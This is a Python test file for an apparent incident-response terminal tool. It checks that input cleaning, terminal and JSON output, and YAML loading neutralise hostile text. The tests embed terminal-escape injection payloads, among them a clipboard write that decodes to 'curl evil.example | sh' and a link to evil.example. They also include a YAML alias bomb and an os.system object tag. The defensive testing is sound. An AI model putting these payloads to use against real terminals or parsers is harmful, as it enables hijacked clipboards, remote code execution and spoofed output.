"""The text and YAML boundary: properties over arbitrary text, and the known attacks."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from irtui.boundary.errors import TextRefused, YamlError
from irtui.boundary.text_in import clean_input
from irtui.boundary.text_out import for_customers, for_terminal, json_dumps
from irtui.boundary.yaml_load import load_yaml

CONTROL_OR_BIDI = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ATTACKS = {
    "osc0 title": "\x1b]0;pwned\x07",
    "osc8 link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc52 clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "csi clear": "\x1b[2J\x1b[H",
    "c1 csi": "\x9b2J",
    "bidi": "\u202eevil\u202c",
    "bel bs cr": "a\x07b\x08c\rd",
    "nul": "a\x00b",
}


@given(st.text())
def test_cleaned_input_holds_no_controls_and_is_stable(value: str) -> None:
    cleaned = clean_input(value, limit=10**9)
    assert not CONTROL_OR_BIDI.search(cleaned.text)
    assert clean_input(cleaned.text, limit=10**9) == type(cleaned)(cleaned.text, ())
    newlines_only = re.sub("\r\n?|[\u2028\u2029\x85]", "\n", value)
    assert bool(cleaned.notices) == (cleaned.text != newlines_only)


@given(st.text())
def test_terminal_output_can_never_hold_an_escape(value: str) -> None:
    shown = for_terminal(value)
    assert not CONTROL_OR_BIDI.search(shown)
    assert "\n" not in for_terminal(value, single_line=True)


@given(
    st.recursive(
        st.text() | st.integers() | st.none(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_json_output_round_trips_and_is_escaped(value: object) -> None:
    text = json_dumps(value)
    assert not re.search("[\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text)
    assert json.loads(text) == value


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_every_known_attack_is_neutralised_everywhere(name: str) -> None:
    attack = f"before {ATTACKS[name]} after"
    stored = clean_input(attack)
    assert "\x1b" not in stored.text and "\x9b" not in stored.text
    assert stored.notices, "nothing may be removed silently"
    assert stored.text.startswith("before") and stored.text.endswith("after")
    assert "\x1b" not in for_terminal(attack) and not CONTROL_OR_BIDI.search(for_terminal(attack))
    assert not CONTROL_OR_BIDI.search(for_customers(attack))


def test_pasted_colour_codes_keep_their_words() -> None:
    assert clean_input("\x1b[31mERROR\x1b[0m db down").text == "ERROR db down"


def test_too_long_is_refused_not_cut() -> None:
    with pytest.raises(TextRefused, match="title is 301 characters long; the limit is 300"):
        clean_input("x" * 301, what="title", field="title")


def test_rtl_text_and_emoji_are_text() -> None:
    value = "עברית العربية 🔥 [bold] [/foo] x [/ y"
    assert clean_input(value).text == value and not clean_input(value).notices


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("a: &x [1]\nb: *x\n", "bad.yaml:1: YAML anchors and aliases"),
        ('a: &a ["lol","lol"]\nb: &b [*a,*a,*a]\n', "bad.yaml:1: YAML anchors"),
        ("a: 1\nb: 2\na: 3\n", "bad.yaml:3: duplicate key 'a'"),
        ("x: " + "[" * 40 + "]" * 40, "nested deeper than 32 levels"),
        ("a: !!python/object/apply:os.system [ls]\n", "bad.yaml:1: invalid YAML"),
        ("k: [1,\n", "bad.yaml:2: invalid YAML"),
    ],
)
def test_yaml_refusals_name_file_and_line(text: str, message: str) -> None:
    with pytest.raises(YamlError) as caught:
        load_yaml(text, "bad.yaml")
    assert str(caught.value).startswith(message) or message in str(caught.value)


def test_yaml_size_bound_and_lines() -> None:
    with pytest.raises(YamlError, match="limit is 100"):
        load_yaml("a: " + "x" * 200, "big.yaml", max_bytes=100)
    data = load_yaml("a: 1\nb:\n  c: 2\n", "ok.yaml", line_offset=1)
    assert data == {"a": 1, "b": {"c": 2}}
    assert data.line_of("b") == 3 and data["b"].line_of("c") == 4
    with pytest.raises(YamlError, match=r"ok\.yaml:2: not UTF-8"):
        load_yaml(b"a: 1\nb: \xff\n", "ok.yaml")
